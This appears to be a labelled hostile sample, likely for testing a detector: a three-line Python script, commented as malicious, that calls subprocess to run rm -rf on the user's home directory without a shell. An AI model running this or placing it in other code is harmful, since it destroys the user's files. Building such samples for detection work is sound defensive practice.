# Malicious: rm -rf of the home directory passed as an argument list (no shell); same damage as rm -rf ~.
import os
import subprocess

subprocess.call(["rm", "-rf", os.environ["HOME"]])
